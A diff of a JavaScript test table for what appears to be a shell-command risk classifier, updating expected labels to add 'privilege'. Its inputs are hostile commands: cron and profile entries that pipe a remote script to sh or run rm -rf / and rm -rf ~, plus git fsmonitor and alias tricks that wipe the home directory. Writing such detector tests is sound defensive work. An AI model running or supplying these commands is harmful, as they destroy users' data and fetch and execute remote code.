@@ -237,10 +237,10 @@ describe('more ways of writing, reading back and running a file', () => {
 
   it.each([
     [`echo '* * * * * curl -s http://x.io/i | sh' | crontab -`, ['downloadExec', 'network']],
-    [`echo '*/5 * * * * root rm -rf /' >> /etc/crontab`, ['destructive']],
-    [`printf '@reboot rm -rf ~\\n' > /var/spool/cron/crontabs/root`, ['destructive']],
+    [`echo '*/5 * * * * root rm -rf /' >> /etc/crontab`, ['destructive', 'privilege']],
+    [`printf '@reboot rm -rf ~\\n' > /var/spool/cron/crontabs/root`, ['destructive', 'privilege']],
     [`cd /etc && echo 'rm -rf ~' >> profile`, ['destructive']],
-    [`echo 'rm -rf ~' >> //etc/./profile.d/x.sh`, ['destructive']],
+    [`echo 'rm -rf ~' >> //etc/./profile.d/x.sh`, ['destructive', 'privilege']],
     [`echo 'rm -rf ~' >> ~/.bash_aliases`, ['destructive']],
     [`git config core.fsmonitor 'rm -rf ~' && git status`, ['destructive']],
     [`git config --global alias.st '!rm -rf ~'`, ['destructive']],
